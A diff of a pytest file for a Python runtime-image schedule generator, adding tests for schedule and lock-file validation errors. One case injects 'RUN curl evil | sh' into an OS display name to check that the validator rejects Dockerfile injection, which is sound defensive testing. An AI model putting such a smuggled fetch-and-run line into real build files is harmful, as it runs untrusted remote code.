@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import datetime as dt
 import json
+import re
 from pathlib import Path
 
 import pytest
@@ -12,52 +13,66 @@ from generator import schedule
 
 from .conftest import SCHEDULE, edit
 
+# The runtimes people decided on (schedule.yaml): ID → (Python minor, OS, default for its OS).
 EXPECTED = {
-    "python38-ubuntu18": ("3.8.20", "ubuntu18", False),
-    "python39-ubuntu18": ("3.9.25", "ubuntu18", True),
-    "python310-ubuntu22": ("3.10.20", "ubuntu22", False),
-    "python311-ubuntu22": ("3.11.15", "ubuntu22", False),
-    "python312-ubuntu22": ("3.12.13", "ubuntu22", False),
-    "python313-ubuntu22": ("3.13.14", "ubuntu22", True),
-    "python312-ubuntu24": ("3.12.13", "ubuntu24", False),
-    "python313-ubuntu24": ("3.13.14", "ubuntu24", False),
-    "python314-ubuntu24": ("3.14.6", "ubuntu24", True),
-    "python2": ("2.7.12", "ubuntu16", False),
-    "python34": ("3.4.8", "ubuntu16", False),
-    "python35": ("3.5.9", "ubuntu16", False),
-    "python36": ("3.6.10", "ubuntu16", False),
-    "python37": ("3.7.9", "ubuntu16", False),
+    "python38-ubuntu18": ("3.8", "ubuntu18", False),
+    "python39-ubuntu18": ("3.9", "ubuntu18", True),
+    "python310-ubuntu22": ("3.10", "ubuntu22", False),
+    "python311-ubuntu22": ("3.11", "ubuntu22", False),
+    "python312-ubuntu22": ("3.12", "ubuntu22", False),
+    "python313-ubuntu22": ("3.13", "ubuntu22", True),
+    "python312-ubuntu24": ("3.12", "ubuntu24", False),
+    "python313-ubuntu24": ("3.13", "ubuntu24", False),
+    "python314-ubuntu24": ("3.14", "ubuntu24", True),
+    "python2": ("2.7", "ubuntu16", False),
+    "python34": ("3.4", "ubuntu16", False),
+    "python35": ("3.5", "ubuntu16", False),
+    "python36": ("3.6", "ubuntu16", False),
+    "python37": ("3.7", "ubuntu16", False),
 }
+LEGACY_RELEASES = {"python2": "2.7.12", "python34": "3.4.8", "python35": "3.5.9", "python36": "3.6.10", "python37": "3.7.9"}
 
 
 def test_real_schedule_has_every_runtime_of_the_issue() -> None:
     s = schedule.load(SCHEDULE)
-    got = {r.id: (r.version, r.os_id, r.default_for_os) for r in s.runtimes.values()}
+    got = {r.id: (r.minor, r.os_id, r.default_for_os) for r in s.runtimes.values()}
     assert got == EXPECTED
     assert [r.id for r in s.legacy() if r.legacy_default] == ["python2"]
     assert s.newest().id == "python314-ubuntu24"
+    for r in s.runtimes.values():
+        # new-style runtimes take the lock's current patch release; legacy ones keep their fixed interpreter
+        assert r.version == (LEGACY_RELEASES[r.id] if r.style == "legacy" else s.pins.python_minors[r.minor])
+        assert r.interpreter == s.pins.cpython[r.version] and r.base == s.pins.base_images[r.os_id]
+        assert r.image == f"ghcr.io/appengine-flex-python/runtimes/{r.id}:{r.version}"
 
 
-def test_pins_match_shared_evidence() -> None:
-    """The schedule's pins are the researched values in shared/pins, not retyped by hand."""
+def test_schedule_holds_no_fetched_value() -> None:
+    """People edit decisions; every digest and hash lives in the lock that refresh writes."""
+    text = SCHEDULE.read_text()
+    assert not re.search(r"sha256|[0-9a-f]{40}|digest", text.split("operating_systems:", 1)[1])
+    assert not re.search(r"\b\d+\.\d+\.\d+\b", text.split("legacy_runtimes:", 1)[0].split("operating_systems:", 1)[1])
+
+
+def test_first_lock_matches_shared_evidence() -> None:
+    """The lock's first pins are the researched values in shared/pins, not retyped by hand."""
     pins = SCHEDULE.parent.parent / "shared" / "pins"
     if not pins.is_dir():
         pytest.skip("shared/pins is not beside this checkout")
     s = schedule.load(SCHEDULE)
     rows = [line.split("\t") for line in (pins / "cpython-sources.tsv").read_text().splitlines()[1:]]
-    tgz = {r[0]: (r[1], r[2]) for r in rows}
-    for version, interp in s.model.interpreters.items():
-        assert (interp.url, interp.sha256) == tgz[version]
+    tgz = {r[0]: (r[1], r[2], None if r[3] == "-" else r[3]) for r in rows}
+    for version, rel in s.pins.cpython.items():
+        if rel.evidence.startswith("shared/pins/"):
+            assert (rel.url, rel.sha256, rel.tar_xz_sha256) == tgz[version]
     bases = {r[0]: r for r in (line.split("\t") for line in (pins / "base-images.tsv").read_text().splitlines()[1:])}
-    for os_id, os_ in s.model.operating_systems.items():
-        _, image, digest, nix, _ = bases[os_id]
-        assert os_.image == f"docker.io/library/{image}"
-        assert os_.digest == digest
-        assert os_.nix_sha256 == (None if nix == "-" else nix)
+    for os_id, base in s.pins.base_images.items():
+        if base.evidence.startswith("shared/pins/"):
+            _, image, digest, nix, _ = bases[os_id]
+            assert (base.image, base.digest) == (f"docker.io/library/{image}", digest)
+            assert base.platforms["amd64"].nix_sha256 == (None if nix == "-" else nix)
     dates = dict(line.split("\t")[:2] for line in (pins / "support-dates.tsv").read_text().splitlines()[1:])
-    for version, interp in s.model.interpreters.items():
-        minor = ".".join(version.split(".")[:2])
-        assert interp.end_of_support.isoformat() == dates[f"python {minor}"]
+    for minor, release in s.model.python_releases.items():
+        assert release.end_of_support.isoformat() == dates[f"python {minor}"]
 
 
 @pytest.mark.parametrize(
@@ -84,8 +99,10 @@ def test_list_table_and_json(cli) -> None:
     assert table.exit_code == 0
     lines = table.stdout.splitlines()
     assert lines[0].split() == ["RUNTIME", "OS", "PYTHON", "STATUS", "END", "OF", "SUPPORT"]
-    assert lines[1].split() == ["python38-ubuntu18", "ubuntu18", "3.8.20", "end_of_support", "2023-05-31"]
-    assert "python314-ubuntu24 *  ubuntu24  3.14.6   supported" in table.stdout
+    sched = schedule.load(SCHEDULE)
+    first, newest = sched.runtimes["python38-ubuntu18"], sched.runtimes["python314-ubuntu24"]
+    assert lines[1].split() == ["python38-ubuntu18", "ubuntu18", first.version, "end_of_support", "2023-05-31"]
+    assert any(line.split() == ["python314-ubuntu24", "*", "ubuntu24", newest.version, "supported", "2029-05-31"] for line in lines)
     rows = json.loads(cli("list", "--json", "--date", "2026-11-23").stdout)
     assert len(rows) == 14
     assert {r["runtime_id"]: r["status"] for r in rows}["python311-ubuntu22"] == "supported"
@@ -94,16 +111,17 @@ def test_list_table_and_json(cli) -> None:
 
 # (name, (old, new) edit of schedule.yaml, fragments of the error)
 BROKEN = [
-    ("unknown top-level key", ("schema_version: 1", "schema_version: 1\ncolour: blue"), ["schedule.yaml:9", "colour", "unknown key"]),
+    ("unknown top-level key", ("schema_version: 2", "schema_version: 2\ncolour: blue"), ["schedule.yaml:", "colour", "unknown key"]),
     (
         "unknown key in an OS",
         ("    end_of_support: 2023-05-31", "    end_of_suport: 2023-05-31"),
         ["operating_systems.ubuntu18.end_of_suport", "unknown key", "operating_systems.ubuntu18.end_of_support", "missing"],
     ),
+    ("missing field", ('    glibc: "2.35"', "    "), ["operating_systems.ubuntu22.glibc", "required key is missing"]),
     (
-        "missing field",
-        ("    sha256: 0816c4761c97ecdb3f50a3924de0a93fd78cb63ee8e6c04201ddfaedca500b0b\n", ""),
-        ["interpreters.3.12.13.sha256", "required key is missing"],
+        "a fetched digest typed into the schedule",
+        ("    image: docker.io/library/ubuntu:22.04\n", "    image: docker.io/library/ubuntu:22.04\n    digest: sha256:" + "1" * 64 + "\n"),
+        ["operating_systems.ubuntu22.digest", "unknown key"],
     ),
     (
         "duplicate runtime ID",
@@ -116,28 +134,28 @@ BROKEN = [
         ["runtimes[0].os", "unknown operating system 'ubuntu20'", "ubuntu16, ubuntu18, ubuntu22, ubuntu24"],
     ),
     (
-        "runtime naming an unknown interpreter",
-        ('python: "3.8.20"}', 'python: "3.8.21"}'),
-        ["runtimes[0].python", "unknown interpreter '3.8.21'"],
+        "runtime naming a Python without support dates",
+        ('  "3.8": {end_of_support: 2024-10-07}\n', ""),
+        ["runtimes[0].python", "Python 3.8 has no end of support under python_releases"],
     ),
     (
-        "malformed sha256",
-        ("sha256: 0816c4761c97ecdb3f50", "sha256: 0816c4761c97ecdb3f5Z"),
-        ["interpreters.3.12.13.sha256", "64 lowercase hex digits"],
+        "a patch release where a minor belongs",
+        ('python: "3.8"}', 'python: "3.8.20"}'),
+        ["runtimes[0].python", "malformed value '3.8.20'", "minor version"],
     ),
     (
-        "malformed digest",
-        ("digest: sha256:b8b6ee6aa931", "digest: sha256:b8b6"),
-        ["operating_systems.ubuntu22.digest", "'sha256:' and 64 lowercase hex digits"],
+        "malformed image tag",
+        ("image: docker.io/library/ubuntu:22.04", "image: docker.io/library/ubuntu"),
+        ["operating_systems.ubuntu22.image", "host/path:tag"],
     ),
     (
-        "malformed Nix hash",
-        ("nix_sha256: sha256-JH369uSSA9smCqIXhMXn3A8jwYeJ4EOqQ3WfpHqwMMg=", "nix_sha256: sha256-short="),
-        ["operating_systems.ubuntu24.nix_sha256", "Nix hash"],
+        "OS name that would break a generated file",
+        ("name: Ubuntu 22.04 LTS (Jammy Jellyfish)", 'name: "Ubuntu 22.04\nRUN curl evil | sh"'),
+        ["operating_systems.ubuntu22.name", "display name"],
     ),
     (
         "version written as a YAML number",
-        ('{id: python310-ubuntu22, os: ubuntu22, python: "3.10.20"}', "{id: python310-ubuntu22, os: ubuntu22, python: 3.10}"),
+        ('{id: python310-ubuntu22, os: ubuntu22, python: "3.10"}', "{id: python310-ubuntu22, os: ubuntu22, python: 3.10}"),
         ["runtimes[2].python", "3.10 is written as a YAML number (read as 3.1)", 'quote it: "3.10"'],
     ),
     (
@@ -157,15 +175,19 @@ BROKEN = [
         ["exactly one"],
     ),
     (
-        "tarball URL of another version",
-        ("ftp/python/3.9.25/Python-3.9.25.tgz", "ftp/python/3.9.24/Python-3.9.24.tgz"),
-        ["interpreters.3.9.25.url", "must end in /Python-3.9.25.tgz"],
+        "date not a date",
+        ('"3.14": {end_of_support: 2030-10-31}', '"3.14": {end_of_support: soon}'),
+        ["python_releases.3.14.end_of_support", "YYYY-MM-DD"],
     ),
-    ("date not a date", ("end_of_support: 2030-10-31", "end_of_support: soon"), ["interpreters.3.14.6.end_of_support", "YYYY-MM-DD"]),
     ("duplicate YAML key", ("  ubuntu24:\n", "  ubuntu22:\n"), ["duplicate key 'operating_systems.ubuntu22'", "first defined on line"]),
-    ("YAML syntax error", ("schema_version: 1", "schema_version: [1"), ["schedule.yaml:", "YAML syntax error"]),
-    ("wrong schema version", ("schema_version: 1", "schema_version: 2"), ["schema_version", "1"]),
+    ("YAML syntax error", ("schema_version: 2", "schema_version: [2"), ["schedule.yaml:", "YAML syntax error"]),
+    ("wrong schema version", ("schema_version: 2", "schema_version: 1"), ["schema_version", "2"]),
     ("string where a number belongs", ("deprecation_window_days: 180", "deprecation_window_days: '180'"), ["policy.deprecation_window_days"]),
+    (
+        "a new OS tag the lock does not pin yet",
+        ("image: docker.io/library/ubuntu:24.04", "image: docker.io/library/ubuntu:24.10"),
+        ["operating_systems.ubuntu24.image", "ubuntu:24.10 is new", "python -m generator refresh"],
+    ),
 ]
 
 
@@ -188,3 +210,65 @@ def test_empty_schedule(tree: Path) -> None:
     (tree / "schedule.yaml").write_text("")
     with pytest.raises(schedule.ScheduleError, match="must be a YAML mapping"):
         schedule.load(tree / "schedule.yaml")
+
+
+def _lock(tree: Path) -> Path:
+    return tree / "lockfiles" / "schedule.lock.json"
+
+
+# (name, change to the lock's JSON data or text, fragments of the error)
+BROKEN_LOCK = [
+    ("malformed digest", lambda d: d["base_images"]["ubuntu22"].update(digest="sha256:b8b6"), ["base_images.ubuntu22.digest", "64 lowercase hex"]),
+    (
+        "malformed Nix hash",
+        lambda d: d["base_images"]["ubuntu24"]["platforms"]["amd64"].update(nix_sha256="sha256-short="),
+        ["base_images.ubuntu24.platforms.amd64.nix_sha256", "Nix hash"],
+    ),
+    ("malformed sha256", lambda d: d["cpython"]["3.9.25"].update(sha256="Z" * 64), ["cpython.3.9.25.sha256", "64 lowercase hex"]),
+    (
+        "tarball URL of another version",
+        lambda d: d["cpython"]["3.9.25"].update(url="https://www.python.org/ftp/python/3.9.24/Python-3.9.24.tgz"),
+        ["cpython.3.9.25.url", "must end in /Python-3.9.25.tgz"],
+    ),
+    (
+        "a minor pinned to another minor's release",
+        lambda d: d["python_minors"].update({"3.9": "3.10.20"}),
+        ["python_minors.3.9", "not a release of Python 3.9"],
+    ),
+    ("a minor the lock does not pin", lambda d: d["python_minors"].pop("3.12"), ["Python 3.12", "pins no patch release", "refresh"]),
+    ("a release without its tarball hash", lambda d: d["cpython"].pop("2.7.12"), ["CPython 2.7.12", "no tarball sha256", "refresh"]),
+    ("an OS the lock does not pin", lambda d: d["base_images"].pop("ubuntu18"), ["operating_systems.ubuntu18", "pins no digest", "refresh"]),
+    ("unknown architecture", lambda d: d["base_images"]["ubuntu22"]["platforms"].update(s390x=None), ["platforms.s390x", "amd64 or arm64"]),
+    ("not JSON", "{ not json", ["schedule.lock.json:1", "not valid JSON", "git checkout"]),
+]
+
+
+@pytest.mark.parametrize(("name", "change", "fragments"), BROKEN_LOCK, ids=[b[0] for b in BROKEN_LOCK])
+def test_lock_errors(cli, tree: Path, name: str, change, fragments: list[str]) -> None:
+    path = _lock(tree)
+    if isinstance(change, str):
+        path.write_text(change)
+    else:
+        data = json.loads(path.read_text())
+        change(data)
+        path.write_text(json.dumps(data))
+    result = cli("list", schedule=tree / "schedule.yaml")
+    assert result.exit_code == 2 and result.stdout == ""
+    for fragment in fragments:
+        assert fragment in result.stderr, f"{fragment!r} not in {result.stderr!r}"
+    assert "Traceback" not in result.stderr
+
+
+def test_missing_lock_says_how_to_make_it(cli, tree: Path) -> None:
+    _lock(tree).unlink()
+    result = cli("generate", "--check", schedule=tree / "schedule.yaml")
+    assert result.exit_code == 2
+    assert "lockfiles/schedule.lock.json is missing: run `python -m generator refresh`" in result.stderr
+
+
+def test_lock_file_is_canonical() -> None:
+    """Sorted keys, ASCII, one trailing newline: what `refresh` writes, byte for byte."""
+    from generator import pins
+
+    text = (SCHEDULE.parent / pins.LOCK).read_text()
+    assert pins.loads(text).dumps() == text
